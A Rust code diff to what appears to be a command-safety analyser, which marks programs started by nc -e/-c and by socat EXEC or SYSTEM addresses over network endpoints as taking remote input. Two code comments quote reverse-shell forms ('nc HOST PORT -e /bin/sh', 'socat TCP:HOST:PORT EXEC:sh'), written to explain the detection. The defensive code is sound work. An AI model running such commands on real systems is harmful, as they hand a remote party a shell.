@@ -4,7 +4,7 @@ use super::super::normalize;
 use super::super::operation::{Context, Operation};
 use super::args;
 use super::commands::remote_host;
-use super::walk::{Feed, Walker};
+use super::walk::{downloaded_feed, Feed, Walker};
 use crate::rules::Action;
 
 impl Walker<'_> {
@@ -474,16 +474,23 @@ impl Walker<'_> {
                     ],
                     false,
                 );
+                // The program nc runs reads the connection: `nc HOST PORT -e /bin/sh` is a
+                // shell that runs whatever the other end sends.
                 for e in o.values(&["-e", "--exec"]) {
                     self.run(
                         &e.split_whitespace().map(str::to_owned).collect::<Vec<_>>(),
                         &mut ctx.clone(),
                         depth + 1,
-                        Feed::default(),
+                        downloaded_feed(),
                     );
                 }
                 for c in o.values(&["-c", "--sh-exec"]) {
-                    self.script(c, &mut ctx.clone(), depth + 1);
+                    self.run(
+                        &["sh".to_owned(), "-c".to_owned(), c.to_owned()],
+                        &mut ctx.clone(),
+                        depth + 1,
+                        downloaded_feed(),
+                    );
                 }
                 for f in o.values(&["-o", "--output"]) {
                     self.path_op(Action::Write, f, ctx, None);
@@ -511,8 +518,15 @@ impl Walker<'_> {
                 Feed::default()
             }
             "socat" => {
-                for a in args.iter().filter(|a| !a.starts_with('-') || a.len() == 1) {
-                    self.socat_address(a, ctx, depth, piped.as_ref());
+                let addresses: Vec<&String> = args
+                    .iter()
+                    .filter(|a| !a.starts_with('-') || a.len() == 1)
+                    .collect();
+                // A program socat runs reads what the other address sends: from a network
+                // address, that is a remote party's input (`socat TCP:HOST:PORT EXEC:sh`).
+                let networked = addresses.iter().any(|a| is_socat_network(a));
+                for a in addresses {
+                    self.socat_address(a, ctx, depth, piped.as_ref(), networked);
                 }
                 Feed::default()
             }
@@ -789,7 +803,15 @@ impl Walker<'_> {
         ctx: &mut Context,
         depth: usize,
         piped: Option<&String>,
+        networked: bool,
     ) {
+        let feed = || {
+            if networked {
+                downloaded_feed()
+            } else {
+                Feed::default()
+            }
+        };
         let (kind, rest) = addr.split_once([':', ',']).unwrap_or((addr, ""));
         let target = rest.split(',').next().unwrap_or(rest);
         match kind.to_ascii_uppercase().as_str() {
@@ -809,11 +831,17 @@ impl Walker<'_> {
                         .collect::<Vec<_>>(),
                     &mut ctx.clone(),
                     depth + 1,
-                    Feed::default(),
+                    feed(),
                 );
             }
             "SYSTEM" => {
-                self.script(rest, &mut ctx.clone(), depth + 1);
+                let code = rest.split(',').next().unwrap_or(rest);
+                self.run(
+                    &["sh".to_owned(), "-c".to_owned(), code.to_owned()],
+                    &mut ctx.clone(),
+                    depth + 1,
+                    feed(),
+                );
             }
             "FILE" | "OPEN" | "GOPEN" | "CREATE" | "CREAT" | "PIPE" | "UNIX" | "UNIX-CONNECT" => {
                 self.path_op(Action::Read, target, ctx, None);
@@ -829,4 +857,18 @@ impl Walker<'_> {
             _ => {}
         }
     }
+}
+
+/// Whether a socat address is a network endpoint (connecting or listening).
+fn is_socat_network(addr: &str) -> bool {
+    let kind = addr
+        .split([':', ','])
+        .next()
+        .unwrap_or(addr)
+        .to_ascii_uppercase();
+    [
+        "TCP", "UDP", "SCTP", "OPENSSL", "SSL", "SOCKS", "PROXY", "DTLS", "IP", "UDPLITE",
+    ]
+    .iter()
+    .any(|k| kind.starts_with(k))
 }
